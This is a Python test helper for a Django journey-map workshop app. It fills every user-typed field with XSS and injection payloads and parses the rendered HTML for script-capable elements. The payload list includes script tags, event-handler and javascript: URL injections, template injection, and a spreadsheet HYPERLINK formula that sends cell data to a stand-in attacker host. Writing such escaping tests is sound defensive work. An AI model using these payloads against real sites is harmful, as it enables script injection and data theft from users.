"""Hostile text for every field people type into, and a check that HTML shows it as text."""

from __future__ import annotations

import datetime
from html.parser import HTMLParser

# Each one tries a different way out of a text node or an attribute.
PAYLOADS = [
    "<script>alert('xss-1')</script>",
    "<img src=x onerror=alert('xss-2')>",
    '"><svg onload=alert("xss-3")>',
    "' onmouseover='alert(4)' data-x='",
    "javascript:alert('xss-5')",
    "</textarea><script>alert('xss-6')</script>",
    "{{ request }}{% debug %}",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "<iframe src=//evil.example></iframe>",
    "<a href='javascript:alert(9)'>link</a>",
]


class _Elements(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            value = (value or "").strip().lower()
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}>")
            if name in ("href", "src", "action", "formaction") and value.startswith("javascript:"):
                self.found.append(f"<{tag} {name}=javascript:>")
        if tag in ("iframe", "object", "embed"):
            self.found.append(f"<{tag}>")
        if tag == "script" and not dict(attrs).get("src", "").startswith("/static/"):
            self.found.append("<script> not ours")
        if tag == "img" and dict(attrs).get("src") == "x":
            self.found.append("<img src=x>")


def dangerous_elements(html: str) -> list[str]:
    """Elements or attributes that could run script; our own pages have none."""
    parser = _Elements()
    parser.feed(html)
    return parser.found


def fill_with_payloads(workshop):
    """Every text field of a workshop's team A map, its persona, a participant name and the
    workshop's title, each with a payload. Returns team A's map."""
    from maps.models import ActionPlan, Card, EmotionCard, Lane, Persona
    from workshops.models import Participant

    workshop.title = PAYLOADS[0]
    workshop.save()
    team = workshop.teams.get(name="팀 A")
    journey_map = team.journey_map
    journey_map.title, journey_map.topic = PAYLOADS[1], PAYLOADS[2]
    journey_map.start_point, journey_map.end_point = PAYLOADS[3], PAYLOADS[4]
    journey_map.situation, journey_map.expectations = PAYLOADS[5], PAYLOADS[6]
    journey_map.persona = Persona.objects.create(
        name=PAYLOADS[7], profile=PAYLOADS[8], goals=PAYLOADS[9], quote=PAYLOADS[0]
    )
    journey_map.save()
    stage = journey_map.stages.first()
    stage.name = PAYLOADS[3][:60]
    stage.save()
    cards = {}
    for i, lane in enumerate(Lane.values[:6]):
        cards[lane] = Card.objects.create(
            stage=stage, lane=lane, text=PAYLOADS[i % len(PAYLOADS)], channel_other=PAYLOADS[2][:60]
        )
    touchpoint = cards[Lane.TOUCHPOINT]
    touchpoint.channel = "other"
    touchpoint.save()
    EmotionCard.objects.create(
        touchpoint=touchpoint, score=-2, words=PAYLOADS[6], author_name=PAYLOADS[1][:100]
    )
    ActionPlan.objects.create(
        opportunity=cards[Lane.OPPORTUNITY],
        what=PAYLOADS[5],
        owner=PAYLOADS[7][:100],
        due_date=datetime.date(2026, 12, 1),
    )
    Participant.objects.create(workshop=workshop, team=team, display_name=PAYLOADS[2][:100])
    return journey_map
